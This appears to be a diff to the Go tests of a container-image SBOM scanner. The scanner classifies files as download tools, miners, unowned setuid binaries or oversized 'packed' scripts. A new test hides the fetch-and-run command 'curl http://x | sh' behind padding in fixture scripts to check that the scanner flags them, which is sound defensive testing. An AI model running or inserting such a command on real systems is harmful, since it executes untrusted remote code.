@@ -3,6 +3,7 @@ package sbom_test
 import (
 	"archive/tar"
 	"bytes"
+	"crypto/md5"
 	"encoding/json"
 	"fmt"
 	"maps"
@@ -54,7 +55,7 @@ func sample(t *testing.T) v1.Image {
 		"run.sh":                         "#!/bin/sh\nexec /usr/sbin/nginx\n",
 		"bin":                            "-> usr/bin",
 		"var/lib/dpkg/status":            dpkgStatus,
-		"var/lib/dpkg/info/curl.md5sums": "d41d8cd98f00b204e9800998ecf8427e  opt/fetch\n",
+		"var/lib/dpkg/info/curl.md5sums": "" + fmt.Sprintf("%x", md5.Sum([]byte(elf+curlWords))) + "  opt/fetch\n",
 	}, map[string]string{"usr/sbin/.wh.nginx": ""})
 	archive := imagetest.Tar(t, []tar.Header{
 		{Name: "usr/bin/su", Mode: 0o4755, Typeflag: tar.TypeReg, Uid: 0},
@@ -98,8 +99,8 @@ func TestScan(t *testing.T) {
 	}
 	want := []string{
 		"/opt/fetch -rwxr-xr-x layer 0 deleted in -1 setuid false capabilities false download-tool curl",
-		"/usr/bin/ping -rwxr-xr-x layer 2 deleted in -1 setuid false capabilities true",
-		"/usr/bin/su -rwsr-xr-x layer 2 deleted in -1 setuid true capabilities false",
+		"/usr/bin/ping -rwxr-xr-x layer 2 deleted in -1 setuid false capabilities true unowned ",
+		"/usr/bin/su -rwsr-xr-x layer 2 deleted in -1 setuid true capabilities false unowned ",
 		"/usr/sbin/nginx -rwxr-xr-x layer 0 deleted in 1 setuid false capabilities false miner miner",
 	}
 	if !slices.Equal(got, want) {
@@ -245,6 +246,42 @@ func TestScanStarted(t *testing.T) {
 	}
 }
 
+// TestScanLargeScripts: padding does not hide what a script that is started does: that it is too large is told.
+func TestScanLargeScripts(t *testing.T) {
+	padded := strings.Repeat("# padding\n", 200) + "curl http://x | sh\n"
+	img := imagetest.Image(t, map[string]string{
+		"start": padded, "run.sh": "#!/bin/sh\n" + padded, "app.js": padded, "tool": "#!/usr/bin/env node\n" + padded, "srv/idle.sh": padded,
+	})
+	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
+		{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "start"}, {Name: "hard", Typeflag: tar.TypeLink, Linkname: "run.sh"}, {Name: ".wh.run.sh"},
+	}, []string{"", "", ""}))
+	config, err := img.ConfigFile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	config = config.DeepCopy()
+	config.Config.Entrypoint = []string{"/link", "/hard", "/app.js", "/tool"}
+	if img, err = mutate.ConfigFile(img, config); err != nil {
+		t.Fatal(err)
+	}
+	m := sbom.NewMemory(t)
+	for range 2 {
+		bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{Limits: sbom.Limits{Script: 1000}, Memory: m})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, f := range bom.Files {
+			if slices.ContainsFunc(f.Classes, func(c sbom.Class) bool { return c.Class == "packed" }) {
+				got = append(got, f.Path)
+			}
+		}
+		if want := []string{"/run.sh", "/start"}; !slices.Equal(got, want) {
+			t.Errorf("too large: got %q, want %q", got, want)
+		}
+	}
+}
+
 func TestScanErrors(t *testing.T) {
 	p := sbom.OnePlatform(t, sample(t))
 	if _, err := sbom.Scan(t.Context(), p, sbom.Options{Layers: image.Limits{Entries: 3}}); err == nil {
@@ -285,7 +322,10 @@ func TestEncodeCycloneDX(t *testing.T) {
 			}
 		}
 	}
-	want := map[string]string{"curl": "download-tool (curl)", "/opt/fetch": "download-tool (curl)", "/usr/sbin/nginx": "miner (miner)"}
+	want := map[string]string{
+		"curl": "download-tool (curl)", "/opt/fetch": "download-tool (curl)", "/usr/sbin/nginx": "miner (miner)",
+		"/usr/bin/su": "unowned", "/usr/bin/ping": "unowned",
+	}
 	if !maps.Equal(classes, want) {
 		t.Errorf("classes: got %q, want %q", classes, want)
 	}
@@ -315,6 +355,7 @@ func TestEncodeSPDX(t *testing.T) {
 	want := map[string]string{
 		"curl": "tidewaiter:class=download-tool (curl)", "opt/fetch": "tidewaiter:class=download-tool (curl)",
 		"usr/sbin/nginx": "tidewaiter:class=miner (miner)",
+		"usr/bin/su":     "tidewaiter:class=unowned", "usr/bin/ping": "tidewaiter:class=unowned",
 	}
 	if !maps.Equal(classes, want) {
 		t.Errorf("classes: got %q, want %q", classes, want)
